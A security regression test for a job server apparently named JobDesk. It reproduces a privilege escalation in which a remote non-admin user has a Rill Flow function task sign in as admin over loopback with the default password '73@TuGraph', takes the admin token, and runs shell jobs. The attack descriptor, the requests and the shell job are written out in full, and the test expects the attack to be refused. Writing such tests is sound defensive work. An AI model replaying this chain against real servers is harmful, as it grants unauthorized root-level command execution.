// Attack (#9 §3, everyone reaches only their own; the default password and the network): a plain
// user who reaches JobDesk from the network makes JobDesk sign in as admin for them. The default
// password works from loopback only, but a Rill Flow function task is an HTTP call JobDesk itself
// makes, from loopback: bob's task POSTs {"username":"admin","password":"73@TuGraph"} to
// http://127.0.0.1:<port>/api/v1/login, maps the answer into his context, and get.json hands him
// admin's token, which then works from his address: he runs shell as the desktop user. It needs a
// server open to the network while admin still has the default password, which `serve --host
// 0.0.0.0 --allow-remote` allows (test/http/attack-cli-remote-default-password.test.ts). Measured
// over real HTTP (serve --host 0.0.0.0 --allow-remote on a new data folder, admin made bob from
// loopback, every call of bob's from 192.0.2.2): the execution's context held {token, user:
// {username: "admin", isAdmin: true}}; with that token from 192.0.2.2, `id; hostname` ran as a
// shell job (uid=0(root)). Expected: a non-admin from the network never becomes admin: the server
// is not open while admin has the default password, or JobDesk's own calls are not taken for this
// computer, or such a token is refused from afar; this test asks only that bob's shell job is refused.
// This test FAILS until a plain user cannot borrow loopback's trust through a function task.
import { rmSync } from 'node:fs'
import type { AddressInfo } from 'node:net'
import { hostname } from 'node:os'
import { describe, expect, it } from 'vitest'
import { startOnNetwork } from '../support/app'
import { tempDir } from '../support/temp-store'
import { createUser } from '../support/users'

const FROM_AFAR = '192.0.2.7'
/** Rill Flow dag_status values of an execution that has not ended. */
const UNFINISHED = ['NOT_STARTED', 'READY', 'RUNNING']

describe('attack: a remote plain user has a Rill Flow function task sign in as admin from loopback', () => {
  it('gives bob no way to run shell as admin from the network', async () => {
    const dir = tempDir()
    let app: Awaited<ReturnType<typeof startOnNetwork>>
    try {
      app = await startOnNetwork(dir)
      if (!app) return // not open to the network: no one from afar, nothing to borrow
      const server = app.server
      const { token: adminToken } = await app.auth.login('admin', '73@TuGraph') // an API client on this computer, as TuGraph's are
      const bob = await createUser({ url: app.url, token: adminToken }, 'bob')
      // every call of bob's comes from another machine, to this machine's name
      const fromAfar = (method: 'GET' | 'POST', url: string, payload?: string | object, token = bob.token, contentType = 'application/json') =>
        server.inject({ method, url, remoteAddress: FROM_AFAR, headers: { host: `${hostname()}:8080`, authorization: `Bearer ${token}`, 'content-type': contentType }, payload })
      expect((await server.inject({ method: 'POST', url: '/api/v1/login', remoteAddress: FROM_AFAR, headers: { host: `${hostname()}:8080` }, payload: { username: 'admin', password: '73@TuGraph' } })).statusCode).toBe(403)

      const port = (server.server.address() as AddressInfo).port
      const descriptor = `workspace: bobWs
dagName: borrow
type: flow
tasks:
  - category: function
    name: signIn
    pattern: task_sync
    resourceName: http://127.0.0.1:${port}/api/v1/login
    inputMappings:
      - {source: $.context.u, target: $.input.username}
      - {source: $.context.p, target: $.input.password}
    outputMappings:
      - {source: $.output, target: $.context.got}
`
      const added = await fromAfar('POST', '/flow/bg/manage/descriptor/add_descriptor.json?business_id=bobWs&feature_name=borrow&alias=release', descriptor, bob.token, 'text/plain')
      expect(added.statusCode, added.body).toBe(200)
      const submitted = await fromAfar('POST', '/flow/submit.json?descriptor_id=bobWs:borrow', { u: 'admin', p: '73@TuGraph' })
      const executionId = submitted.json().execution_id as string | undefined
      let borrowed: string | undefined
      if (executionId) {
        const end = Date.now() + 30_000
        for (;;) {
          const ret = (await fromAfar('GET', `/flow/get.json?execution_id=${encodeURIComponent(executionId)}`)).json().ret
          if (ret?.dag_status && !UNFINISHED.includes(ret.dag_status)) {
            borrowed = ret.context?.got?.token
            break
          }
          if (Date.now() > end) throw new Error(`execution ${executionId} stayed ${ret?.dag_status}`)
          await new Promise((r) => setTimeout(r, 100))
        }
      }
      if (borrowed === undefined) return // the task got no token: nothing to use
      const shell = await fromAfar('POST', '/api/v1/jobs', { type: 'script', language: 'shell', code: 'id' }, borrowed)
      expect(shell.statusCode, `bob ran shell as admin from ${FROM_AFAR}: ${shell.body}`).not.toBe(201)
    } finally {
      await app?.close()
      rmSync(dir, { recursive: true, force: true })
    }
  }, 90_000)
})
